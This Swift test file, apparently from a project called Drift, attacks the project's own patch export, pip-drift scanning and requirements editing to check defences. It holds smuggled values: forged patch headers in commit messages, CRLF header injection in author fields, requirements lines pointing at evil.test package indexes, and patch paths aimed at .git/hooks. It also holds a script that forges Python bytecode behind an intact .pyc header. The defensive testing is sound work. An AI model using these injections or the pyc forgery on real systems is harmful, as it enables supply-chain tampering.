import Foundation
import Testing
@testable import DriftCore
@testable import DriftGit
@testable import DriftSystem

/// An attacker's review of issues 11 and 12: routes the issues' tests do not take.
@Suite("Attack review")
struct AttackReviewTests {
    @Test("--message lines that git am reads as a patch break or an mbox split are refused, exit 2, nothing written")
    func messageCannotForgeAPatch() throws {
        let f = try Fixture()
        defer { f.dir.remove() }
        try f.bake()
        try sh("echo 'FIXED = 1' >> worker/util.py", cwd: f.workspace)
        let smuggle = "Fix the queue\n\nbody\n---\ndiff --git a/app/evil.py b/app/evil.py\nnew file mode 100644\n"
            + "--- /dev/null\n+++ b/app/evil.py\n@@ -0,0 +1 @@\n+import os\n"
        let mbox = "Fix\n\nFrom 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\nSubject: x\n"
        for (i, message) in [smuggle, mbox, "Fix\n\nline\rDrift-Id: forged"].enumerated() {
            let out = f.dir.sub("out\(i)")
            let r = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--output", out,
                               "--message", message])
            #expect(r.code == 2, "\(r.out)")
            #expect(r.err.hasPrefix("drift: ") && r.err.split(separator: "\n").count == 1, "\(r.err)")
            #expect(!FileManager.default.fileExists(atPath: out))
        }
        // An honest multi-line message still exports, and git am keeps drift's trailers.
        let out = f.dir.sub("ok")
        let ok = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--output", out,
                            "--message", "Fix the queue\n\nSee ticket 42 -- the worker\n  --- indented is fine\n"])
        try #require(ok.code == 0, "\(ok.err)")
        let clone = f.dir.sub("clone")
        try sh("git clone -q '\(f.upstream)' '\(clone)' && cd '\(clone)' && git am -q '\(out)/drift.patch'")
        #expect(Trailers(try sh("git -C '\(clone)' log -1 --format=%B")).values("Drift-Id").count == 1)
    }

    @Test("--author with a CR, CRLF or newline in name or email is refused with the value quoted")
    func authorCannotForgeHeaders() throws {
        let f = try Fixture()
        defer { f.dir.remove() }
        try f.bake()
        try sh("echo 'FIXED = 1' >> worker/util.py", cwd: f.workspace)
        for (i, author) in ["Eve\r\nDrift-Id: x <e@x>", "Eve <e@x\nSubject: forged>", "Eve\r <e@x>"].enumerated() {
            let out = f.dir.sub("out\(i)")
            let r = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--output", out, "--author", author])
            #expect(r.code == 2, "\(r.out)")
            #expect(r.err.hasPrefix("drift: ") && r.err.split(separator: "\n").count == 1, "\(r.err)")
            #expect(!r.err.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "\(r.err)")
            #expect(!FileManager.default.fileExists(atPath: out))
        }
    }

    @Test("site-packages: a forged __pycache__ pyc of an installed module and a sourceless pyc are pip drift")
    func sitePackagesBytecode() throws {
        let python = "/usr/bin/python3"
        guard FileManager.default.isExecutableFile(atPath: python) else {
            Issue.record("python3 (Debian package python3) is not installed")
            return
        }
        let tag = try sh("\(python) -c 'import sys; print(sys.implementation.cache_tag)'")
            .trimmingCharacters(in: .whitespacesAndNewlines)
        let minor = tag.replacingOccurrences(of: "cpython-3", with: "")
        let f = try Fixture()
        defer { f.dir.remove() }
        let sp = f.dir.sub("env/lib/python3.\(minor)/site-packages")
        try write(sp + "/pkgx/__init__.py", "def f():\n    return 1\n")
        try write(sp + "/pkgx/core.py", "def g():\n    return 'core'\n")
        try write(sp + "/pkgx-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkgx\nVersion: 1.0\n")
        let record = """
            import base64, hashlib, os, sys
            sp = sys.argv[1]; rows = []
            for rel in ['pkgx/__init__.py', 'pkgx/core.py', 'pkgx-1.0.dist-info/METADATA']:
                b = open(os.path.join(sp, rel), 'rb').read()
                h = base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b'=').decode()
                rows.append('%s,sha256=%s,%d' % (rel, h, len(b)))
            rows.append('pkgx-1.0.dist-info/RECORD,,')
            open(os.path.join(sp, 'pkgx-1.0.dist-info/RECORD'), 'w').write('\\n'.join(rows) + '\\n')
            """
        try sh("\(python) -c \"$REC\" '\(sp)' && \(python) -m compileall -q '\(sp)' >/dev/null", env: ["REC": record])
        try f.bake(["--site-packages", sp])
        let (r0, j0) = try f.scan()
        #expect(r0.code == 0, "\(r0.out) \(r0.err)")
        #expect((j0["pip"] as? [Any])?.isEmpty == true, "\(j0["pip"] ?? "")")
        // The attacker keeps the pyc's 16-byte header (source mtime and size) and swaps the code.
        let pyc = sp + "/pkgx/__pycache__/core.\(tag).pyc"
        let forge = """
            import marshal, sys
            real = open(sys.argv[1], 'rb').read()
            code = compile("def g():\\n    return 'evil'\\n", sys.argv[2], 'exec', dont_inherit=True)
            open(sys.argv[1], 'wb').write(real[:16] + marshal.dumps(code))
            """
        try sh("\(python) -c \"$FORGE\" '\(pyc)' '\(sp)/pkgx/core.py'", env: ["FORGE": forge])
        let path = "import sys; sys.path.insert(0, sys.argv[1]); "
        let imp = "\(python) -c '\(path)import pkgx.core as c; print(c.g())' '\(sp)'"
        #expect(try sh(imp) == "evil\n", "Python must run the forged bytecode for this test to mean anything")
        let (r1, j1) = try f.scan()
        #expect(r1.code == 1, "\(r1.out) \(r1.err)")
        let pip1 = (j1["pip"] as? [[String: Any]]) ?? []
        let modified = pip1.first { $0["change"] as? String == "modified" && $0["name"] as? String == "pkgx" }
        #expect((modified?["files"] as? [String])?.contains { $0.hasPrefix(pyc) } == true, "\(pip1)")
        // A pyc with no source beside it is imported by Python as is: it is a file no RECORD owns.
        try sh("cp '\(pyc)' '\(sp)/sneaky.pyc'")
        #expect(try sh("\(python) -c '\(path)import sneaky; print(sneaky.g())' '\(sp)'") == "evil\n")
        let (_, j2) = try f.scan()
        let pip2 = (j2["pip"] as? [[String: Any]]) ?? []
        let unowned = pip2.first { $0["change"] as? String == "unowned" }
        #expect((unowned?["files"] as? [String])?.contains("sneaky.pyc") == true, "\(pip2)")
    }

    @Test("gate: a traditional ---/+++ header after a hunk is a header to git apply, and to the patch check")
    func traditionalHeaderAfterHunk() throws {
        let dir = try TempDir()
        defer { dir.remove() }
        func patch(_ second: String) -> String {
            "diff --git a/ok.txt b/ok.txt\n--- a/ok.txt\n+++ b/ok.txt\n@@ -1 +1 @@\n-x\n+y\n"
                + "--- a/\(second)\n+++ b/\(second)\n@@ -0,0 +1 @@\n+pwn\n"
        }
        // The oracle: git apply reads the second header and would create the file.
        try sh("git init -q . && echo x > ok.txt", cwd: dir.path)
        try Data(patch("tools/run.sh").utf8).write(to: URL(fileURLWithPath: dir.sub("p.diff")))
        let numstat = try sh("git apply --numstat p.diff", cwd: dir.path)
        #expect(numstat.contains("tools/run.sh"), "\(numstat)")
        #expect(try PatchPaths.paths(Array(patch("tools/run.sh").utf8)).contains(Array("tools/run.sh".utf8)))
        for bad in [".git/hooks/post-checkout", "../outside.sh", ".GIT/config"] {
            #expect(throws: PatchPaths.Problem.self) { try PatchPaths.check(Array(patch(bad).utf8)) }
        }
        // Removed and added lines that spell a header inside a hunk are content, not names.
        let content = "diff --git a/n.txt b/n.txt\n--- a/n.txt\n+++ b/n.txt\n@@ -1,2 +1,2 @@\n--- ../x\n+++ ../y\n"
            + " keep\n"
        #expect(throws: Never.self) { try PatchPaths.check(Array(content.utf8)) }
    }

    @Test("a copy or hard link of .env under a data or config path leaves no hash of the secret in any output")
    func secretCopiedAsData() throws {
        let f = try Fixture()
        defer { f.dir.remove() }
        try f.bake()
        let w = f.workspace
        try sh("printf 'MINIO_SECRET=4821\\n' > .env && cp .env packages/models/env.bin && ln .env assets/env.lnk "
               + "&& cp .env config/env.yaml && echo 'FIXED = 1' >> worker/util.py", cwd: w)
        let hash = try sh("sha256sum .env | cut -c1-64", cwd: w).trimmingCharacters(in: .whitespacesAndNewlines)
        let (scan, _) = try f.scan()
        #expect(scan.code == 1, "\(scan.err)")
        #expect(!scan.out.contains(hash))
        let out = f.dir.sub("out")
        let ex = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--output", out])
        try #require(ex.code == 0, "\(ex.err)")
        for name in ["drift.patch", "report.json"] {
            let text = try String(contentsOfFile: out + "/" + name, encoding: .utf8)
            #expect(!text.contains(hash), "\(name) holds the secret's hash")
            // 4821 may stand inside a commit or blob id of the patch by chance; only a stand-alone one is the value.
            let alone = text.ranges(of: /(?:^|[^0-9a-f])4821(?:[^0-9a-f]|$)/)
            #expect(alone.isEmpty, "\(name) holds the value")
        }
        let text = try drift(["scan", "--manifest", f.mdir, "--state", f.state])
        #expect(!text.out.contains(hash))
        #expect(text.out.contains("packages/models/env.bin"))
    }

    @Test("requirements edit: a METADATA version or direct_url with line breaks or options adds no line pip reads")
    func requirementsInjection() throws {
        let sp = "/venv/lib/python3.11/site-packages"
        func change(_ name: String, _ kind: PipChangeKind, _ to: String, url: String? = nil) -> PipChange {
            PipChange(name: name, change: kind, from: nil, to: to, sitePackages: sp, files: [], allowed: false,
                      url: url)
        }
        let hostile = [
            change("six", .upgraded, "1.17.0\r--index-url http://evil.test/simple"),
            change("toml", .added, "0.10.2\u{2028}--extra-index-url http://evil.test/"),
            change("tomli", .added, "-e git+http://evil.test/x"),
            change("hotpatch", .editable, "0.1", url: "file:///src\n--trusted-host evil.test\u{85}-r /etc/x"),
            change("wheel", .added, "0.42.0"),
        ]
        let text = Requirements.apply(hostile, to: "# pins\nsix==1.16.0  # keep\n")
        // The oracle is pip's own line splitting (str.splitlines) of what drift writes.
        let dir = try TempDir()
        defer { dir.remove() }
        try Data(text.utf8).write(to: URL(fileURLWithPath: dir.sub("req.txt")))
        let lines = try sh("python3 -c 'import sys; [print(repr(l)) for l in open(sys.argv[1]).read().splitlines()]' "
                           + "'\(dir.sub("req.txt"))'").split(separator: "\n")
        #expect(lines.count == 7, "\(lines)")
        for l in lines {
            let body = l.dropFirst().dropLast()
            #expect(body.hasPrefix("#") || ["six==1.16.0  # keep", "wheel==0.42.0"].contains(String(body)), "\(l)")
        }
    }
}
